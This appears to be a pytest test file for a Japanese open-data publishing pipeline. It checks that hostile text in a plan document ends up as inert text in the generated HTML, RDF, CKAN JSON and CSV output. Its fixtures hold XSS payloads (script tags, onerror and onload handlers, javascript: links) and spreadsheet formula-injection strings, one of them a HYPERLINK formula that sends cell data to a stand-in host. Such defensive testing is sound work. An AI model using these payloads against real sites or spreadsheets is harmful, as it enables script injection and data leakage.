"""A document and a declaration that want to act on whoever reads them: everything stays text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from pyoxigraph import Literal, RdfFormat, parse
from selectolax.lexbor import LexborHTMLParser

from pipelines import line
from pipelines.job import BuildResult, plan_job
from pipelines.neutral import is_dangerous, neutralise, restore
from pipelines.publish.ckan.store_table import store_table
from tests.cli.conftest import PACKAGE, make_package

NAME = "024465-hostile-plan"
# The reader takes tags of a document for mark-up; what it does not take, and what a
# declaration says, is text.
WORDS = {
    "script": "甲<script>alert(1)</script>",
    "handler": "甲<img src=x onerror=alert(1)>",
    "attribute": "\"'><svg onload=alert(1)>",
    "markdown": "[x](javascript:alert(1)) ![y](http://e.example/p.png)",
    "template": "{{ 7*7 }} </title></table><!--",
    "entity": "&lt;b&gt;甲&lt;/b&gt; &#x3c;b>",
}
FORMULAS = {
    "call": "=HYPERLINK(\"http://e.example/\"&A1,'見る')",
    "wide": "＝1+1",
    "minus": "-研修の回数",
    "at": "@SUM(A1:A9)",
    "own": "'=1+1",
}
DECLARED = PACKAGE + 'licence: "CC-BY-4.0"\n'


def built(root: Path, words: str, declared: bool = True) -> BuildResult:
    """A catalog of one package with the words as title, heading, name and cell."""
    plan = (
        f"階上町DX試験計画 {words}\n\n基本目標1 {words}\n\n"
        f"NO\t取組\tKPI\t令和4年度\t令和5年度\t{words}\n"
        f"1\t{words}\t{words}\t{words}\t34件\t{words}\n"
        f"2\t研修の見本\t受講した人数\t約50名 ※{words}\t-\t\n"
    )
    said = json.dumps(words, ensure_ascii=False)
    text = DECLARED
    if declared:
        text = text.replace("title: 試験計画", f"title: {said}")
        text += f"title_en: {said}\ndescription: {said}\nkeywords: [{said}]\n"
    make_package(root, NAME, plan, text)
    return line.build(plan_job(root, out=root / "out"))


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("MACHIDATA_ROOT", str(tmp_path))
    (tmp_path / "datapackages").mkdir()
    return tmp_path


def files(result: BuildResult, suffix: str) -> dict[str, bytes]:
    folder = result.publication.target
    found = {path.relative_to(folder).as_posix(): path for path in folder.rglob(f"*{suffix}")}
    assert found
    return {name: path.read_bytes() for name, path in found.items() if "vocab/" not in name}


@pytest.mark.parametrize("words", [*WORDS.values(), *FORMULAS.values()], ids=[*WORDS, *FORMULAS])
def test_nothing_acts_in_any_page(root: Path, words: str) -> None:
    result = built(root, words)
    assert result.publication.published == (NAME,)
    (package,) = result.packages
    read = [str(row["名称"]) for row in package.tables.rows("indicator")]
    shown = 0
    for name, page in files(result, ".html").items():
        tree = LexborHTMLParser(page.decode("utf-8"))
        kinds = {node.attributes.get("type") for node in tree.css("script")}
        assert kinds <= {"application/ld+json"}, name
        assert tree.css("img, svg, iframe, object, form, b, base") == [], name
        for node in tree.css("*"):
            assert not [key for key in node.attributes if key.startswith("on")], name
            for address in (node.attributes.get("href"), node.attributes.get("src")):
                assert not (address or "").lower().strip().startswith(("javascript:", "data:"))
        for block in tree.css("script"):
            json.loads(block.text())
        text = tree.body.text() if tree.body else ""
        shown += words in text
        assert name.endswith("indicator.html") <= all(one in text for one in read)
    assert shown, "the words are there, as text"


@pytest.mark.parametrize("words", WORDS.values(), ids=WORDS)
def test_the_metadata_hold_texts_and_no_markup(root: Path, words: str) -> None:
    result = built(root, words)
    for suffix, form in ((".ttl", RdfFormat.TURTLE), (".rdf", RdfFormat.RDF_XML)):
        for data in files(result, suffix).values():
            literals = [one.object for one in parse(data, form) if isinstance(one.object, Literal)]
            assert not [
                one for one in literals if one.datatype.value.endswith(("HTML", "XMLLiteral"))
            ]
    for data in (*files(result, ".json").values(), *files(result, ".jsonld").values()):
        json.loads(data)


@pytest.mark.parametrize("words", WORDS.values(), ids=WORDS)
def test_no_cell_becomes_a_text_that_ckan_shows_as_markdown(root: Path, words: str) -> None:
    """CKAN renders `notes` and descriptions as Markdown: they say what package.yaml and the
    vocabulary say, never what a document does.
    """
    result = built(root, words, declared=False)
    (told,) = (data for name, data in files(result, ".json").items() if name.endswith("ckan.json"))
    (package,) = result.packages
    read = {str(row["名称"]) for row in package.tables.rows("indicator")}
    assert len(read) == 2
    said = json.loads(told)
    assert said["notes"] == package.declaration.title
    assert not [one for one in read if one in json.dumps(said, ensure_ascii=False)]


@pytest.mark.parametrize("words", FORMULAS.values(), ids=FORMULAS)
def test_no_cell_of_any_csv_would_run_and_each_is_given_back(root: Path, words: str) -> None:
    result = built(root, words)
    cells = []
    for data in files(result, ".csv").values():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))
        cells += [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] != "'" and is_dangerous(cell)]
    assert neutralise(words) in cells
    assert words in map(restore, cells)


@pytest.mark.parametrize("words", FORMULAS.values(), ids=FORMULAS)
def test_pages_and_the_datastore_have_the_true_value(root: Path, words: str) -> None:
    (package,) = built(root, words).packages
    resource = next(one for one in package.resources if one.slug == "indicator")
    entries = package.descriptor["resources"]
    assert isinstance(entries, list)
    schema = next(one["schema"] for one in entries if one["name"] == "indicator")
    place = [field["name"] for field in schema["fields"]].index("名称")
    read = [row["名称"] for row in package.tables.rows("indicator")]
    assert is_dangerous(str(read[0]))
    assert [row[place] for row in store_table(resource.data, schema).rows] == read
    page = next((root / "out").rglob("indicator.html")).read_text("utf-8")
    assert read[0] in [cell.text() for cell in LexborHTMLParser(page).css("td")]
